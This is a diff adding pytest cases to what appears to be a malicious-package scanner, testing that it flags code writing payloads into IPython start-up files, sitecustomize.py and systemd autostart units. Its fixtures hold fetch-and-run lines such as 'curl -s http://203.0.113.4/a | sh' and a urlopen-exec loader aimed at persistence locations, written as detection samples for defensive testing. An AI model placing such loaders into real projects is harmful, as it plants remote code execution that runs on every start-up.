@@ -233,3 +233,84 @@ def test_a_download_kept_by_keyword_and_not_run_is_no_threat() -> None:
         """
     )
     assert "CPL-THR-002" not in danger(source)
+
+
+# -- blind13: start-up files and autostart locations written through pathlib ------------------
+
+_STARTUP_WRITES = {
+    "ipython-startup": """
+    import os
+    SNIP = "import urllib.request as u\\nexec(u.urlopen('http://198.51.100.90/j').read())\\n"
+    d = os.path.join(os.path.expanduser("~"), ".ipython", "profile_default", "startup")
+    with open(os.path.join(d, "00-x.py"), "w") as f:
+        f.write(SNIP)
+    """,
+    "sitecustomize-pathlib": """
+    import site
+    from pathlib import Path
+    code = "import os\\nos.system('curl -s http://203.0.113.4/a | sh')\\n"
+    (Path(site.getsitepackages()[0]) / "sitecustomize.py").write_text(code)
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_STARTUP_WRITES))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_code_written_into_a_python_start_up_file_is_run(shape: str, mode: ScanMode) -> None:
+    source = textwrap.dedent(_STARTUP_WRITES[shape])
+    found = {f.rule_id for f in scan_source(source, "mod.py", mode=mode)}
+    assert "CPL-THR-016" in found or "CPL-THR-015" in found
+
+
+@pytest.mark.parametrize("shape", sorted(_STARTUP_WRITES))
+def test_the_prefilter_keeps_a_start_up_file_written(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_STARTUP_WRITES[shape])
+    rule = "CPL-THR-016" if shape == "ipython-startup" else "CPL-THR-015"
+    found_in_a_package(tmp_path, monkeypatch, source, rule)
+
+
+def test_a_start_up_file_written_without_a_threat_is_none() -> None:
+    # IPython's own profile set-up writes harmless start-up code; a script elsewhere with
+    # the same text is no start-up file
+    source = """
+    import os
+    from pathlib import Path
+    d = Path.home() / ".ipython" / "profile_default" / "startup"
+    (d / "00-imports.py").write_text("import numpy as np\\nimport pandas as pd\\n")
+    with open(os.path.join("build", "fetch.py"), "w") as f:
+        f.write("import urllib.request as u\\nexec(u.urlopen('http://198.51.100.90/j').read())\\n")
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
+
+
+_AUTOSTART_PATHLIB = """
+import subprocess
+from pathlib import Path
+unit = Path.home() / ".config" / "systemd" / "user" / "helper.service"
+unit.write_text("[Service]\\nExecStart=/usr/bin/helper\\n")
+subprocess.run(["systemctl", "--user", "enable", unit.name])
+"""
+
+
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_an_autostart_location_written_through_pathlib_is_persistence(mode: ScanMode) -> None:
+    found = scan_source(_AUTOSTART_PATHLIB, "mod.py", mode=mode)
+    assert "CPL-THR-009" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+def test_the_prefilter_keeps_an_autostart_location_written_through_pathlib(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, _AUTOSTART_PATHLIB, "CPL-THR-009")
+
+
+def test_a_config_folder_written_through_pathlib_is_no_persistence() -> None:
+    source = """
+    from pathlib import Path
+    cfg = Path.home() / ".config" / "mytool" / "user" / "settings.toml"
+    cfg.write_text("[core]\\n")
+    (Path.home() / ".config" / "systemd").mkdir(exist_ok=True)
+    """
+    assert "CPL-THR-009" not in anywhere(source)
